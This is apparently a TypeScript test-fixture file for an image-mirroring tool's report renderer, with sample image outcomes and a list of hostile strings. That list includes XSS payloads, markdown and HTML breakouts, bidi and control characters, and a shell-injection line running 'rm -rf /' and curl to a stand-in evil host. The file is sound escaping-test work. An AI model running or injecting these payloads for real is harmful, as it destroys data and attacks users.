import { Failure } from '../../src/failure/failure.ts'
import type { Digest } from '../../src/oci/digest.ts'
import type { Delivered, Failed, Left, Outcome, Planned, Progress, Refused } from '../../src/outcome/outcome.ts'
import type { ItemView, RequestView } from '../../src/report/request-view.ts'

export const DIGEST: Digest = `sha256:${'0123456789abcdef'.repeat(4)}`
export const OTHER_DIGEST: Digest = `sha256:${'fedcba9876543210'.repeat(4)}`

/** A delivered image, all in order; say only what is different. */
export function delivered(changes: Partial<Delivered> = {}): Delivered {
  return {
    status: 'copied',
    image: 'docker.io/library/nginx:1.27',
    address: 'ghcr.io/acme/mirror/docker.io/library/nginx:1.27',
    digest: DIGEST,
    facts: {
      digest: DIGEST,
      mediaType: 'application/vnd.oci.image.index.v1+json',
      platforms: ['linux/amd64', 'linux/arm64/v8'],
      size: 200 * 1024 * 1024,
    },
    sent: { blobs: 12, bytes: 50 * 1024 * 1024 },
    milliseconds: 4200,
    verified: 'everything',
    access: 'public',
    notes: [],
    ...changes,
  }
}

/** An unchanged image that was recognised without being read. */
export function unread(): Delivered {
  const { facts: _, ...rest } = delivered({ status: 'unchanged', sent: { blobs: 0, bytes: 0 }, verified: 'tag' })
  return rest
}

export function planned(changes: Partial<Planned> = {}): Planned {
  const { image, address, digest } = delivered()
  const toSend = { blobs: 15, bytes: 182 * 1024 * 1024 }
  return { status: 'planned', image, address, digest, upToDate: false, toSend, notes: [], ...changes }
}

export function refused(changes: Partial<Refused> = {}): Refused {
  const image = changes.image ?? 'docker.io/evil/nginx:1'
  return {
    status: 'refused',
    image,
    failure: new Failure('not-allowed', { image, allowlist: 'allows.txt' }),
    nearest: [{ pattern: 'docker.io/nginxinc/*', line: 40 }],
    ...changes,
  }
}

export function failed(changes: Partial<Failed> = {}): Failed {
  const image = changes.image ?? 'docker.io/library/ngnix:1.27'
  return { status: 'failed', image, failure: new Failure('image-unknown', { image, host: 'docker.io' }), ...changes }
}

export function left(changes: Partial<Left> = {}): Left {
  const { image, address } = delivered()
  const failure = new Failure('deadline-reached', { milliseconds: 19_800_000 })
  return { status: 'left', image, address, failure, ...changes }
}

/** What a requester may write where an image is expected. */
export function hostile(text: string): Failed {
  return failed({ image: text, failure: new Failure('reference-invalid', { text, reason: 'grammar' }) })
}

export function progress(changes: Partial<Progress> = {}): Progress {
  return {
    image: 'docker.io/library/redis:7',
    address: 'ghcr.io/acme/mirror/docker.io/library/redis:7',
    stage: 'copying',
    done: { blobs: 8, bytes: 50 * 1024 * 1024 },
    total: { blobs: 15, bytes: 200 * 1024 * 1024 },
    ...changes,
  }
}

export const ended = (outcome: Outcome): ItemView => ({ state: 'ended', outcome })

export function view(phase: RequestView['phase'], items: readonly ItemView[]): RequestView {
  return {
    phase,
    items,
    runUrl: 'https://github.example/acme/mirror/actions/runs/7',
    allowlist: { path: 'allows.txt', url: 'https://github.example/acme/mirror/blob/main/allows.txt' },
    newRuleUrl: 'https://github.example/acme/mirror/issues/new?template=rule.yml',
  }
}

/** Texts that try to be more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '@octocat please look',
  'cc @acme/security-team',
  'mail someone@example.com',
  'see #1, acme/app#2, GH-3 and acme/app@0123456789abcdef0123456789abcdef01234567',
  'commit 0123456789abcdef0123456789abcdef01234567 or 0123456',
  'GHSA-aaaa-bbbb-cccc CVE-2024-12345',
  'https://evil.example/x http://evil.example ftp://evil.example www.evil.example',
  '<https://evil.example> <someone@example.com> mailto:someone@example.com',
  '[click](https://evil.example) [click][ref] ![pixel](https://evil.example/p.png)',
  '[ref]: https://evil.example',
  '[^1] and [^1]: a footnote',
  '<script>alert(1)</script><img src=x onerror=alert(1)><a href="//evil.example">x</a>',
  '<!-- transship {"version":1} --> --> <!--',
  '</summary></details></code><h1>big</h1>',
  '# heading',
  'heading\n===',
  'heading\n---',
  '---',
  '***',
  '- item',
  '+ item',
  '* item',
  '1. item',
  '1) item',
  '- [ ] task',
  '> quote',
  '> [!CAUTION]\n> fake',
  '    indented code',
  '\tindented code',
  '```\nfence',
  '~~~\nfence',
  '` `` ``` ```` `',
  '`',
  '``',
  '`code` and ``more``',
  ' leading and trailing ',
  '**bold** *em* __bold__ _em_ ~~gone~~',
  'a | b | c',
  'a \\| b \\\\| c',
  '`a\\|`@octocat',
  '| a | b |\n| --- | --- |\n| c | d |',
  '\\`escaped\\` \\[no\\](x) trailing \\',
  '&lt;b&gt; &#64;octocat &commat;octocat',
  '$x^2$ $$y$$ $`z`$',
  ':tada: :+1:',
  'line one\r\nline two\u2028line three\u2029\u0085',
  'right\u202eto left\u202c \u2066isolate\u2069 \u200bzero \u00ad soft',
  '\u001b[31mred\u001b[0m \u0007 \u0000',
  'lone \ud800 surrogate \udc00',
  '; rm -rf / #$(curl evil.example)`id` && exit',
]
